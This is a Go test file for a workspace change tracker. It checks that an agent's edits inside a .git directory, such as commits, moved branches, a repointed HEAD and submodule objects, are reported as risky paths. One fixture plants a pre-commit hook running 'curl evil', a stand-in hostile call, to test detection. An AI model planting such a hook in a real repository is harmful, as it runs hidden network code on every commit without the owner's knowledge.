package workspace

import (
	"context"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"testing"

	"github.com/goalrun/goalrun/grounding"
)

// gitRepo is a hand-made .git directory (real files, no git program run)
// with one commit on main.
var gitRepo = map[string]string{
	"main.go":                         "package main\n",
	".git/HEAD":                       "ref: refs/heads/main\n",
	".git/config":                     "[core]\n\tbare = false\n",
	".git/refs/heads/main":            "1111111111111111111111111111111111111111\n",
	".git/packed-refs":                "# pack-refs with: peeled\n2222222222222222222222222222222222222222 refs/tags/v1\n",
	".git/index":                      "DIRC\x00\x00\x00\x02",
	".git/logs/HEAD":                  "0000 1111 a <a@b> 1 +0000\tcommit (initial): one\n",
	".git/objects/11/11111111111111":  "x\x01blob",
	".git/modules/lib/HEAD":           "ref: refs/heads/main\n",
	".git/modules/lib/objects/aa/bb":  "x\x01blob",
	".git/modules/lib/refs/heads/dev": "3333333333333333333333333333333333333333\n",
}

// TestChangesGitDatabase: whatever the agent does inside .git — a commit,
// a moved branch, a repointed HEAD, a rewritten history — is a risky path
// (objects summarised per git directory), never a file of the change set:
// files_changed, the line counts and the patch stay those of the work tree.
func TestChangesGitDatabase(t *testing.T) {
	cases := []struct {
		name   string
		edit   map[string]string
		remove []string
		files  []string // want d.Files paths
		risky  []string // want d.Risky paths, in order
	}{
		{name: "nothing", risky: nil},
		{name: "branch moved to another commit",
			edit:  map[string]string{".git/refs/heads/main": "9999999999999999999999999999999999999999\n"},
			risky: []string{".git/refs/heads/main"}},
		{name: "a commit",
			edit: map[string]string{"main.go": "package main\n\nfunc main() {}\n",
				".git/objects/22/22222222222222": "x\x01blob", ".git/objects/33/33333333333333": "x\x01tree",
				".git/objects/44/44444444444444": "x\x01commit", ".git/refs/heads/main": "4444444444444444444444444444444444444444\n",
				".git/logs/HEAD": "0000 1111 a <a@b> 1 +0000\tcommit (initial): one\n1111 4444 a <a@b> 2 +0000\tcommit: two\n",
				".git/index":     "DIRC\x00\x00\x00\x02changed", ".git/COMMIT_EDITMSG": "two\n"},
			files: []string{"main.go"},
			risky: []string{".git/COMMIT_EDITMSG", ".git/index", ".git/logs/HEAD", ".git/objects/ (3 files changed)", ".git/refs/heads/main"}},
		{name: "HEAD repointed",
			edit:  map[string]string{".git/HEAD": "ref: refs/heads/evil\n", ".git/refs/heads/evil": "5555555555555555555555555555555555555555\n"},
			risky: []string{".git/HEAD", ".git/refs/heads/evil"}},
		{name: "tag deleted from packed-refs", remove: []string{".git/packed-refs"},
			risky: []string{".git/packed-refs"}},
		{name: "index rewritten with the same content",
			edit: map[string]string{".git/index": "DIRC\x00\x00\x00\x02"}},
		{name: "submodule's database",
			edit:  map[string]string{".git/modules/lib/objects/cc/dd": "x", ".git/modules/lib/refs/heads/dev": "6666666666666666666666666666666666666666\n"},
			risky: []string{".git/modules/lib/objects/ (1 file changed)", ".git/modules/lib/refs/heads/dev"}},
		{name: "a branch named objects is not an object",
			edit:  map[string]string{".git/refs/heads/objects/x": "7777777777777777777777777777777777777777\n"},
			risky: []string{".git/refs/heads/objects/x"}},
		{name: "hook beside a commit: config and hooks stay files of the change set",
			edit:  map[string]string{".git/hooks/pre-commit": "#!/bin/sh\ncurl evil\n", ".git/refs/heads/main": "8888888888888888888888888888888888888888\n"},
			files: []string{".git/hooks/pre-commit"},
			risky: []string{".git/hooks/pre-commit", ".git/refs/heads/main"}},
		{name: "nested repository's database",
			edit:  map[string]string{"vendor/x/.git/refs/heads/main": "1\n"},
			risky: []string{"vendor/x/.git/ (a new git repository)"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			tr, dir := chTracker(t, "go test ./...", gitRepo)
			ctx := context.Background()
			s0, err := tr.AfterTurn(ctx, 1)
			if err != nil {
				t.Fatal(err)
			}
			chWrite(t, dir, c.edit)
			for _, p := range c.remove {
				if err := os.Remove(filepath.Join(dir, p)); err != nil {
					t.Fatal(err)
				}
			}
			s1, err := tr.AfterTurn(ctx, 2)
			if err != nil {
				t.Fatal(err)
			}
			d := chDiff(t, tr)
			var files, risky []string
			for _, f := range d.Files {
				files = append(files, f.Path)
			}
			for _, r := range d.Risky {
				risky = append(risky, r.Path)
			}
			if !slices.Equal(files, c.files) {
				t.Errorf("files = %q, want %q", files, c.files)
			}
			if !reflect.DeepEqual(risky, c.risky) {
				t.Errorf("risky = %q, want %q", risky, c.risky)
			}
			if len(d.Files) != len(c.files) || d.RiskyTotal != len(d.Risky) {
				t.Errorf("diff = %+v, want %d files changed, nothing omitted", d, len(c.files))
			}
			if changed := len(c.risky) > 0 || len(c.files) > 0; (s0 != s1) != changed {
				t.Errorf("state changed = %v, want %v", s0 != s1, changed)
			}
			if len(c.files) == 0 && d.PatchSHA256 != emptySHA256 {
				t.Errorf("patch of git's database alone = %s, want the empty patch", d.PatchSHA256)
			}
			for _, g := range d.GitInternal {
				if len(g.Risky) != 1 || g.Risky[0] != grounding.RiskGitDB {
					t.Errorf("%s: risky = %q", g.Path, g.Risky)
				}
			}
		})
	}
}

// emptySHA256 is the SHA-256 of nothing: the patch of no change.
const emptySHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

// TestChangesGitDatabaseBudget: git's database has a file budget of its own,
// so a .git with more entries than MaxFiles never hides the work tree.
func TestChangesGitDatabaseBudget(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{"main.go": "package main\n"}
	for i := 0; i < 40; i++ {
		files[filepath.Join(".git/objects/aa", string(rune('a'+i%26))+string(rune('a'+i/26)))] = "x"
	}
	chWrite(t, dir, files)
	tr := New(dir, Options{MaxFiles: 20, TempDir: t.TempDir()})
	defer tr.Close()
	if err := tr.Baseline(context.Background()); err != nil {
		t.Fatal(err)
	}
	chWrite(t, dir, map[string]string{"main.go": "package main\n\nfunc main() {}\n"})
	d := chDiff(t, tr)
	if len(d.Files) != 1 || d.Files[0].Path != "main.go" {
		t.Errorf("files = %+v, want main.go seen despite a .git over the budget", d.Files)
	}
	if !d.Truncated {
		t.Errorf("a .git over the budget is not marked truncated")
	}
}
